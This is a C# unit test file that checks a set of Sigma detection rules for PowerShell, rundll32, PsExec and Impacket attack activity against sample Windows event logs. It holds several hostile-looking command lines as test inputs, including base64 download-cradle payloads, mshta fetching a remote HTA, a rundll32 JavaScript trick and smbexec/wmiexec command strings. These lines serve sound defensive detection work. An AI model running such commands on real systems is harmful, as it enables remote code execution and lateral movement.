using Huntsman.Sigma;
using Xunit;
using Xunit.Abstractions;
using static Huntsman.Tests.Rules.BuiltinRuleRunner;

namespace Huntsman.Tests.Rules;

/// <summary>
/// The built-in pack run through the Sigma engine: every rule loads, fires on the shared sample named in
/// docs/rules.md (exact counts), stays silent on benign logs, and handles the synthetic look-alikes.
/// </summary>
public class BuiltinRuleEngineTests(ITestOutputHelper output)
{
    private const string Encoded = "Suspicious Encoded PowerShell Command Line";
    private const string Office = "Office Application Spawning a Script Host or LOLBin";
    private const string Rundll32 = "Rundll32 With a Suspicious Command Line";
    private const string Comsvcs = "Process Memory Dump via comsvcs.dll MiniDump";
    private const string Psexesvc7045 = "PsExec Service Installed (System 7045)";
    private const string Psexesvc4697 = "PsExec Service Installed (Security 4697)";
    private const string Pipes = "PsExec-Family Named Pipe";
    private const string SharePipes = "PsExec-Family Named Pipe Opened Over IPC$";
    private const string Renamed = "Renamed PsExec or PsExec Service Binary";
    private const string Svcctl = "Remote Service Control Manager Access Over svcctl";
    private const string AdminShare = "Executable Written to an Admin Share";
    private const string Smbexec7045 = "Impacket SMBExec Service Installed (System 7045)";
    private const string Smbexec4697 = "Impacket SMBExec Service Installed (Security 4697)";
    private const string SmbexecRegistry = "Impacket SMBExec Service Registered (Sysmon Registry)";
    private const string SmbexecCommand = "Impacket SMBExec Command";
    private const string Wmiexec = "Impacket WMIExec Command";
    private const string Atexec = "Impacket ATExec Scheduled Task";

    [Fact]
    public void Every_builtin_rule_loads()
    {
        foreach (var status in Set.Statuses) output.WriteLine(status.ToString());
        Assert.Equal(17, Set.Rules.Count);
        Assert.Empty(Set.Skipped);
        Assert.All(Set.Rules, r => Assert.True(r.HasTelemetry, r.Title));
    }

    public static TheoryData<string, string> Samples() => new()
    {
        { "DeepBlueCLI/evtx/powersploit-security.evtx", $"2 {Encoded}" },
        { "python-evtx/tests/data/system.evtx", $"4 {Psexesvc7045}" },               // plaso's test log: an admin's real PsExec use
        { "EVTX-ATTACK-SAMPLES/Credential Access/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx", $"1 {Encoded}" },
        { "EVTX-ATTACK-SAMPLES/AutomatedTestingTools/Malware/sideloading_uacbypass_rundll32_injection_c2.evtx", $"2 {Office}|1 {Rundll32}" },
        { "EVTX-ATTACK-SAMPLES/Execution/exec_sysmon_1_11_lolbin_rundll32_openurl_FileProtocolHandler.evtx", $"5 {Rundll32}" },
        { "EVTX-ATTACK-SAMPLES/Credential Access/sysmon_10_1_memdump_comsvcs_minidump.evtx", $"1 {Comsvcs}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/TA0006-Credential Access/T1003-Credential dumping/ID1-LSASS dump with LSASSY (SYSMON).evtx", $"2 {Comsvcs}|1 {Rundll32}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/TA0003-Persistence/T1543.003-Create or Modify System Process-Windows Service/ID7045-7036 PSexec service installation.evtx", $"1 {Psexesvc7045}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", $"8 {Pipes}" },
        { "EVTX-ATTACK-SAMPLES/Lateral Movement/LM_renamed_psexecsvc_5145.evtx", $"2 {AdminShare}|3 {SharePipes}|1 {Svcctl}" },
        { "EVTX-ATTACK-SAMPLES/Lateral Movement/LM_Remote_Service01_5145_svcctl.evtx", $"1 {Svcctl}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID47x,4661-4662,5136,4688,4697-SAM the admin (CVE-2021-42287).evtx", $"1 {SmbexecCommand}|1 {Smbexec4697}|1 {Svcctl}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/TA0005-Defense Evasion/T1112-Modify registry/ID11,13-SMBexec service registration.evtx", $"1 {SmbexecRegistry}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/TA0002-Execution/T1047-Windows Management Instrumentation/ID1-WMIexec process execution.evtx", $"1 {SmbexecCommand}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID4688,5140,5145-WMIexec execution via SMB (GLOBAL).evtx", $"2 {Wmiexec}" },
        { "hayabusa-sample-evtx/EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID4688,4698,4699,5145,4624-ATexec remote trask creation (GLOBAL).evtx", $"1 {Atexec}" },
    };

    [SkippableTheory]
    [MemberData(nameof(Samples))]
    public void Fires_on_its_sample(string sample, string expected)
    {
        var hits = HitsIn(SharedData.Path_("evtx", sample));
        var actual = string.Join("|", hits.Select(h => $"{h.Value} {h.Key}"));
        output.WriteLine(actual);
        Assert.Equal(string.Join("|", expected.Split('|').OrderBy(x => x[(x.IndexOf(' ') + 1)..], StringComparer.Ordinal)), actual);
    }

    [SkippableTheory]
    [InlineData("omerbenamram-evtx/samples/security.evtx")]
    [InlineData("omerbenamram-evtx/samples/system.evtx")]
    [InlineData("omerbenamram-evtx/samples/sysmon.evtx")]
    public void Is_silent_on_benign_logs(string sample) => Assert.Empty(HitsIn(SharedData.Path_("evtx", sample)));

    public static TheoryData<string> EncodedSpellings() => EncodedPowerShellFlagListTests.EncodedSpellings();

    [Theory]
    [MemberData(nameof(EncodedSpellings))]
    public void Encoded_flag_fires_in_every_spelling(string flag) =>
        Assert.Contains(Encoded, TitlesFor(Process(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell.exe -nop -w hidden {flag} ZQBjAGgAbwAgAGgAaQA=")));

    [Theory]
    [InlineData("powershell.exe -e^nc JABhAD0AMQA=")]                                     // caret-split flag, UTF-16LE "$a=1"
    [InlineData("pwsh -c \"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('ZQBjAGgAbwAgAGgAaQA7ACAASQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'))\"")] // IEX at an offset
    [InlineData("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")]
    public void Encoded_payload_fires_without_a_plain_flag(string commandLine) =>
        Assert.Contains(Encoded, TitlesFor(Process(@"C:\Program Files\PowerShell\7\pwsh.exe", commandLine)));

    [Theory]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -Encoding utf8 -File C:\\scripts\\report.ps1")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -ep bypass -File C:\\scripts\\report.ps1")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -ExecutionPolicy Bypass -NoProfile -Command Get-Date")]
    [InlineData(@"C:\Windows\System32\certutil.exe", "certutil.exe -encode c:\\file.exe file.txt")]
    [InlineData(@"C:\Windows\System32\cmd.exe", "cmd.exe /c echo -enc JABhAD0AMQA=")]
    public void Encoded_rule_ignores_look_alikes(string image, string commandLine) =>
        Assert.DoesNotContain(Encoded, TitlesFor(Process(image, commandLine)));

    [Fact]
    public void Office_children_fire_and_outlook_search_settings_do_not()
    {
        Assert.Contains(Office, TitlesFor(Process(@"C:\Windows\System32\rundll32.exe", "rundll32.exe C:\\Users\\Public\\a.dll,Start",
            @"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE")));
        Assert.Contains(Office, TitlesFor(Process(@"C:\Windows\System32\mshta.exe", "mshta.exe http://x/a.hta", @"C:\Program Files\Microsoft Office\root\Office16\ONENOTE.EXE")));
        Assert.DoesNotContain(Office, TitlesFor(Process(@"C:\Windows\System32\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL srchadmin.dll",
            @"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE")));
        Assert.DoesNotContain(Office, TitlesFor(Process(@"C:\Windows\System32\splwow64.exe", "splwow64.exe 8192", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")));
    }

    [Theory]
    [InlineData("rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,DllMain", true)]
    [InlineData("rundll32.exe C:\\ProgramData\\a.dll,#1", true)]
    [InlineData("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", true)]
    [InlineData("C:\\Windows\\System32\\rundll32.exe", true)]
    [InlineData("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", false)]
    [InlineData("C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PhotoViewer.dll,ImageView_Fullscreen C:\\pic.jpg", false)]
    public void Rundll32_command_lines(string commandLine, bool fires) =>
        Assert.Equal(fires, TitlesFor(Process(@"C:\Windows\System32\rundll32.exe", commandLine)).Contains(Rundll32));

    [Fact]
    public void Psexesvc_install_fires_from_4697()
    {
        Assert.Contains(Psexesvc4697, TitlesFor(Security(4697, ("ServiceName", "PSEXESVC"), ("ServiceFileName", @"%SystemRoot%\PSEXESVC.exe"),
            ("ServiceType", "0x10"), ("ServiceStartType", "3"), ("ServiceAccount", "LocalSystem"))));
        Assert.Empty(TitlesFor(Security(4697, ("ServiceName", "Spooler"), ("ServiceFileName", @"C:\Windows\System32\spoolsv.exe"))));
    }

    [Theory]
    [InlineData(@"C:\Tools\pe.exe", "psexec.c", "Execute processes remotely", true)]
    [InlineData(@"C:\Tools\PsExec64.exe", "psexec.c", "Execute processes remotely", false)]
    [InlineData(@"C:\Windows\blabla.exe", "psexesvc.exe", "PsExec Service", true)]
    [InlineData(@"C:\Windows\PSEXESVC.exe", "psexesvc.exe", "PsExec Service", false)]
    [InlineData(@"C:\Windows\System32\notepad.exe", "NOTEPAD.EXE", "Notepad", false)]
    public void Renamed_psexec(string image, string originalFileName, string description, bool fires)
    {
        var e = Sysmon(1, ("Image", image), ("OriginalFileName", originalFileName), ("Description", description), ("CommandLine", image),
            ("ProcessId", "4242"), ("ParentImage", @"C:\Windows\System32\services.exe"));
        Assert.Equal(fires, TitlesFor(e).Contains(Renamed));
    }

    [Theory]
    [InlineData(@"\\*\ADMIN$", "tool.exe", "%%1538 %%1541 %%4417 %%4418", "admin", true)]
    [InlineData(@"\\*\C$", @"Windows\Temp\run.ps1", "WriteData (or AddFile)", "admin", true)]
    [InlineData(@"\\*\ADMIN$", "tool.exe", "%%4417", "WKS02$", false)]              // machine account
    [InlineData(@"\\*\ADMIN$", "tool.exe", "%%4416 %%4423", "admin", false)]        // read only
    [InlineData(@"\\*\ADMIN$", "notes.txt", "%%4417", "admin", false)]
    [InlineData(@"\\*\SYSVOL", "logon.bat", "%%4417", "admin", false)]
    [InlineData(@"\\srv\ADMIN$", "tool.exe", "%%4417", "admin", false)]            // the asterisk is literal, not a wildcard
    public void Admin_share_writes(string share, string target, string accessList, string user, bool fires)
    {
        var e = Security(5145, ("SubjectUserName", user), ("ShareName", share), ("RelativeTargetName", target),
            ("AccessMask", "0x2"), ("AccessList", accessList), ("IpAddress", "10.0.0.2"));
        Assert.Equal(fires, TitlesFor(e).Contains(AdminShare));
    }

    [Theory]
    [InlineData("svcctl", "%%4417", "admin", true)]
    [InlineData("svcctl", "%%4417", "SCCM01$", false)]
    [InlineData("svcctl", "%%4416", "admin", false)]
    [InlineData("lsarpc", "%%4417", "admin", false)]
    public void Svcctl_writes(string pipe, string accessList, string user, bool fires)
    {
        var e = Security(5145, ("SubjectUserName", user), ("ShareName", @"\\*\IPC$"), ("RelativeTargetName", pipe), ("AccessList", accessList));
        Assert.Equal(fires, TitlesFor(e).Contains(Svcctl));
    }

    [Theory]
    [InlineData(@"\RemCom_communicaton", true)]
    [InlineData(@"\PAExecInWKS0112345", true)]
    [InlineData(@"\csexecsvc", true)]
    [InlineData(@"\blabla-DESKTOP-AB12CD-37048-stdout", true)]
    [InlineData(@"\lsarpc", false)]
    [InlineData(@"\PSHost.1337.DefaultAppDomain.powershell", false)]
    public void Sysmon_pipes(string pipe, bool fires) =>
        Assert.Equal(fires, TitlesFor(Sysmon(17, ("EventType", "CreatePipe"), ("PipeName", pipe), ("Image", @"C:\Windows\x.exe"))).Contains(Pipes));

    [Theory]
    [InlineData("RemCom_stdinXyZa12345", true)]
    [InlineData("PSEXESVC", true)]
    [InlineData("svc-WIN-5823BM4EN8O-2124-stderr", true)]
    [InlineData("srvsvc", false)]
    public void Share_pipes(string pipe, bool fires) =>
        Assert.Equal(fires, TitlesFor(Security(5145, ("ShareName", @"\\*\IPC$"), ("RelativeTargetName", pipe), ("AccessList", "%%4417"))).Contains(SharePipes));

    [Fact]
    public void Current_smbexec_service_fires_and_an_ordinary_service_does_not()
    {
        var current = @"%COMSPEC% /Q /c echo whoami ^> \\%COMPUTERNAME%\C$\__output_aBcDeFgH 2^>^&1 > %SYSTEMROOT%\QwErTyUi.bat & %COMSPEC% /Q /c %SYSTEMROOT%\QwErTyUi.bat & del %SYSTEMROOT%\QwErTyUi.bat";
        Assert.Contains(Smbexec7045, TitlesFor(SystemLog(7045, ("ServiceName", "QwErTyUi"), ("ImagePath", current), ("ServiceType", "user mode service"))));
        Assert.DoesNotContain(Smbexec7045, TitlesFor(SystemLog(7045, ("ServiceName", "Foo Updater"), ("ImagePath", "\"C:\\Program Files\\Foo\\foo.exe\" /service"))));
    }

    [Fact]
    public void Wmiexec_needs_wmiprvse_quiet_cmd_and_loopback_output()
    {
        const string wmi = @"C:\Windows\System32\wbem\WmiPrvSE.exe";
        Assert.Contains(Wmiexec, TitlesFor(Process(@"C:\Windows\System32\cmd.exe", @"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1619425227.894209 2>&1", wmi)));
        Assert.DoesNotContain(Wmiexec, TitlesFor(Process(@"C:\Windows\System32\cmd.exe", @"cmd.exe /c gpupdate /force", wmi)));
    }

    private static Huntsman.Events.WinEvent Process(string image, string commandLine, string parent = @"C:\Windows\explorer.exe") =>
        Sysmon(1, ("Image", image), ("CommandLine", commandLine), ("ProcessId", "4242"), ("ParentImage", parent),
            ("ParentCommandLine", parent), ("ParentProcessId", "1000"), ("User", @"CORP\alice"));
}
